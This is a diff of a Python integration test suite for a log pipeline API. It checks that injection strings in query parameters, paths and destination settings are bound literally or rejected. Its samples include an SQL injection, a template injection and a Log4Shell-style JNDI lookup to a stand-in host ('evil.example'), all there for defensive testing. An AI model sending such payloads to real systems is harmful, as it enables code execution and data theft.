@@ -6,13 +6,10 @@ at the platform's receiver as the same literal text)."""
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from typing import Any
 from urllib.parse import quote
 
 import orjson
-import pytest
-from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
 from pipeline.enrich import Enricher
@@ -20,6 +17,7 @@ from pipeline.normalize import Normalizer
 from pipeline.store import EventWriter, Row
 from schemas.clickhouse import StoreLocation, connect
 from schemas.events import NormalizedEvent, utc_now_ms
+from tests.integration.conftest import bearer
 from tests.integration.platforms import ALL_PLATFORMS
 
 SQL = [
@@ -54,18 +52,8 @@ LOG_PARAMETERS = [
 VALUE_FILTERS = {"q", "account", "user", "type"}
 
 
-@pytest.fixture(scope="module")
-def client(api_app: FastAPI) -> Iterator[TestClient]:
-    with TestClient(api_app) as test_client:
-        yield test_client
-
-
-def bearer(token: str) -> dict[str, str]:
-    return {"Authorization": f"Bearer {token}"}
-
-
-def total(client: TestClient, token: str) -> int:
-    reply = client.get(
+def total(api_client: TestClient, token: str) -> int:
+    reply = api_client.get(
         "/api/v1/logs/timeline",
         params={"from": "1970-01-01T00:00:00Z", "to": "2299-01-01T00:00:00Z"},
         headers=bearer(token),
@@ -75,14 +63,14 @@ def total(client: TestClient, token: str) -> int:
 
 
 def test_every_log_parameter_binds_injection_strings(
-    client: TestClient, tokens: dict[str, str]
+    api_client: TestClient, tokens: dict[str, str]
 ) -> None:
     admin = tokens["admin"]
-    before = total(client, admin)
+    before = total(api_client, admin)
     for parameter in LOG_PARAMETERS:
         for text in INJECTIONS:
             for path in ("/api/v1/logs", "/api/v1/logs/timeline", "/api/v1/logs/export"):
-                reply = client.get(path, params={parameter: text}, headers=bearer(admin))
+                reply = api_client.get(path, params={parameter: text}, headers=bearer(admin))
                 assert reply.status_code in (200, 400, 422), (path, parameter, text, reply.text)
                 if reply.status_code != 200:
                     error = reply.json()["errors"][0]
@@ -91,25 +79,26 @@ def test_every_log_parameter_binds_injection_strings(
                     assert reply.json()["items"] == [], (parameter, text)
         for name in ("accounts", "users", "types"):
             for text in INJECTIONS:
-                reply = client.get(
+                reply = api_client.get(
                     f"/api/v1/facets/{name}", params={"search": text}, headers=bearer(admin)
                 )
                 assert reply.status_code in (200, 422), (name, text, reply.text)
                 if reply.status_code == 200:
                     assert reply.json()["values"] == [], (name, text)
     for text in INJECTIONS:
-        reply = client.get(f"/api/v1/logs/{quote(text, safe='')}", headers=bearer(admin))
+        reply = api_client.get(f"/api/v1/logs/{quote(text, safe='')}", headers=bearer(admin))
         assert reply.status_code in (404, 422), (text, reply.text)
-        reply = client.get(f"/api/v1/facets/{quote(text, safe='')}", headers=bearer(admin))
+        reply = api_client.get(f"/api/v1/facets/{quote(text, safe='')}", headers=bearer(admin))
         assert reply.status_code in (404, 422), (text, reply.text)
-    assert total(client, admin) == before  # nothing dropped, nothing added
+    assert total(api_client, admin) == before  # nothing dropped, nothing added
 
 
 def test_an_injection_string_that_is_stored_is_found_literally(
-    client: TestClient, tokens: dict[str, str], store: StoreLocation
+    api_client: TestClient, tokens: dict[str, str], store: StoreLocation
 ) -> None:
     """The other direction: an event whose fields hold the strings is found by them,
     exactly, and by nothing broader."""
+    before = total(api_client, tokens["admin"])
     normalizer = Normalizer(Enricher())
     now = utc_now_ms()
     texts = ["' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example/a}"]
@@ -130,23 +119,31 @@ def test_an_injection_string_that_is_stored_is_found_literally(
         )
         assert isinstance(event, NormalizedEvent), event
         rows.append(Row.of(event))
-    EventWriter(connect(store), store).write(rows)
+    client = connect(store)
+    EventWriter(client, store).write(rows)
     admin = bearer(tokens["admin"])
-    for n, text in enumerate(texts):
-        for parameter, value in (
-            ("q", f"agent {text}"),
-            ("account", f"acct {text}"),
-            ("user", f"usr {text}"),
-        ):
-            items = client.get("/api/v1/logs", params={parameter: value}, headers=admin).json()
-            assert [i["event_id"] for i in items["items"]] == [f"inject-{n}"], (parameter, value)
+    try:
+        for n, text in enumerate(texts):
+            for parameter, value in (
+                ("q", f"agent {text}"),
+                ("account", f"acct {text}"),
+                ("user", f"usr {text}"),
+            ):
+                reply = api_client.get("/api/v1/logs", params={parameter: value}, headers=admin)
+                got = [i["event_id"] for i in reply.json()["items"]]
+                assert got == [f"inject-{n}"], (parameter, value)
+    finally:
+        # The session store is shared: the Logs tests compare it with their own oracle.
+        client.command(f"DELETE FROM {store.database}.auth_events WHERE event_id LIKE 'inject-%'")
+        client.close()
+    assert total(api_client, tokens["admin"]) == before
 
 
 def test_every_destination_setting_refuses_or_carries_injection_strings_literally(
-    client: TestClient, tokens: dict[str, str]
+    api_client: TestClient, tokens: dict[str, str]
 ) -> None:
     admin = bearer(tokens["admin"])
-    listed = client.get("/api/v1/destination-types", headers=admin).json()
+    listed = api_client.get("/api/v1/destination-types", headers=admin).json()
     types = {t["platform"]: t for t in listed}
     for platform in ALL_PLATFORMS:
         with platform.receiver() as receiver:
@@ -163,7 +160,7 @@ def test_every_destination_setting_refuses_or_carries_injection_strings_literall
                         "name": "injection",
                         "settings": {**base, field: text},
                     }
-                    reply = client.post(
+                    reply = api_client.post(
                         f"/api/v1/destination-types/{platform.name}/test",
                         headers=admin,
                         json=body,
